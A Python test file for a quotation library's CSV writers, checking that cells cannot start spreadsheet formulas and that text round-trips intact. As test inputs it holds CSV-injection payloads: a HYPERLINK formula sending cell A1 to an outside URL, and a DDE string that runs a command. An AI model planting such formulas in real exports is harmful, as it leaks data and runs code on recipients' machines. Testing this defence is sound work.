"""CSV: no cell starts a formula, and the very words come back."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from quotex import schema
from quotex.quotes import Quotes
from quotex.types import Mention, Quote, Span, Speaker
from quotex.writers import WRITERS, Csv, ExcelCsv, writing
from samples import QUOTES, TEXT

SIGNS = "=+-@＝＋－＠−﹦﹢﹣﹫"  # Excel, LibreOffice and Google Sheets, East Asian forms too
BEFORE = ["", " ", "   ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u200b", "\ufeff", "\x00", "\u202e"]
BEFORE += ["\u3000", "\x1f", "\u00ad\u2060"]


def quotes_of(words: str) -> Quotes:
    speaker = Speaker(words or "x", aliases=(words,), title=words or None)
    quote = Quote(
        words,
        0,
        len(words),
        (Span(words, 0, len(words)),),
        "indirect",
        speaker=speaker,
        mention=Mention(words or "x", 0, len(words), "name"),
        reason=words,
    )
    return Quotes((quote,), words)


def written(name: str, quotes: Quotes) -> str:
    out = io.StringIO(newline="")
    writer = Csv(out)
    writer.write(name, quotes)
    writer.close()
    return out.getvalue()


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def rows(text: str) -> list[dict[str, object]]:
    return list(schema.rows_from_csv(io.StringIO(text, newline="")))


@pytest.mark.parametrize("sign", SIGNS)
@pytest.mark.parametrize("before", BEFORE, ids=ascii)
def test_no_cell_starts_a_formula(before: str, sign: str) -> None:
    words = f'{before}{sign}HYPERLINK("https://example.org/"&A1;"x")'
    _, row = cells(written(words, quotes_of(words)))
    for cell in row:
        assert not cell.strip().strip("".join(BEFORE)).startswith(tuple(SIGNS)), cell
    assert row[0] == f"'{words}"


@pytest.mark.parametrize("words", ["\tx", "\rx", "\nx", "'=x", "''-x", "'\t"])
def test_what_else_gets_an_apostrophe(words: str) -> None:
    assert cells(written(words, quotes_of(words)))[1][0] == f"'{words}"


@pytest.mark.parametrize("words", ["a=b", "'Tis", "'", "“-x”", "1-2", "a\t=b", "'x=1"])
def test_what_is_no_formula_stays(words: str) -> None:
    assert cells(written(words, quotes_of(words)))[1][0] == words


def test_errors_start_no_formula() -> None:
    _, row = cells(written("=a", Quotes(error="=cmd|' /C calc'!A0")))
    assert (row[0], row[-1]) == ("'=a", "'=cmd|' /C calc'!A0")
    assert rows(written("=a", Quotes(error="=b")))[0]["error"] == "=b"


def test_lists_start_no_formula() -> None:
    (row,) = csv.DictReader(io.StringIO(written("a", quotes_of("=x"))))
    assert json.loads(row["speaker_aliases"]) == ["=x"]
    assert row["speaker_aliases"].startswith("[")


@given(st.text(st.sampled_from("'=+-@\t\r\n ＝,;\"\u200b\x00éx") | st.characters(), max_size=8))
def test_the_very_words_come_back(words: str) -> None:
    quotes = quotes_of(words)
    held = [
        {name: schema.in_utf8(cell) for name, cell in row.items()}
        for row in schema.to_rows(words, quotes)
    ]
    assert rows(written(words, quotes)) == held


def test_rows_of_csv_lead_back_to_the_quotations(tmp_path: Path) -> None:
    path = tmp_path / "quotes.csv"
    with path.open("wb") as out, writing(out, "csv") as writer:
        writer.write("a.txt", QUOTES)
    with path.open(encoding="utf-8", newline="") as lines:
        found = list(schema.rows_from_csv(lines))
    assert found == schema.to_rows("a.txt", QUOTES)
    again = schema.quotes_from_rows(found, TEXT)
    assert again.to_rows() == QUOTES.to_rows()


def test_a_cell_of_any_length() -> None:
    before = csv.field_size_limit()
    words = "x" * 200_000
    assert rows(written("a", quotes_of(words)))[0]["text"] == words
    assert csv.field_size_limit() == before


def test_csv_for_excel_comes_back_too() -> None:
    out = io.StringIO(newline="")
    ExcelCsv(out).write("a.txt", QUOTES)
    assert out.getvalue().startswith("\ufeff")
    assert rows(out.getvalue()) == schema.to_rows("a.txt", QUOTES)
    assert rows("") == rows("\ufeff") == []


@pytest.mark.parametrize(
    "change",
    [
        lambda text: text.replace("document,", "name,"),
        lambda text: text.replace(",indirect,", ",indirect"),
        lambda text: text.replace(",0,1,1,[0]", ",zero,1,1,[0]"),
        lambda text: text.replace("[0]", "[" * 100_000),
        lambda text: text.replace("[0]", "[0"),
    ],
)
def test_what_is_no_csv_of_ours_is_an_error(change: object) -> None:
    text = written("a", quotes_of("x"))
    with pytest.raises(ValueError, match="row 1 is not of the expected form"):
        rows(change(text))  # type: ignore[operator]


def test_a_lone_surrogate_is_told_from_a_question_mark() -> None:
    assert rows(written("a", quotes_of("\ud800?")))[0]["text"] == "\ufffd?"


def test_excel_is_told_that_it_is_utf_8() -> None:
    plain, marked = io.StringIO(), io.StringIO()
    for form, out in (("csv", plain), ("csv-excel", marked)):
        writer = WRITERS[form](out)
        writer.write("a.txt", QUOTES)
        writer.close()
    assert marked.getvalue() == "\ufeff" + plain.getvalue()
